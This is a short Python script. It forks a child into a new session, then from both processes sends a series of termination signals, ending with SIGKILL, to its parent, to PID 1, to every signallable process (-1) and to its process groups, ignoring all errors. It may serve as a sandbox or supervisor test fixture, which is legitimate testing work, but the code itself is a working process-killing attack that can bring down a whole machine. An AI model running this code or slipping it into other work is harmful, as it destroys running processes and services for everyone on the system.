"""Kills its parent and its group, again and again, from a child in another session."""
import os, signal

parent, group = os.getppid(), os.getpgrp()
if os.fork() == 0:
    os.setsid()
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1, signal.SIGABRT, signal.SIGKILL):
    for target in (parent, 1, -1, -group, -parent):
        try:
            os.kill(target, number)
        except OSError:
            pass
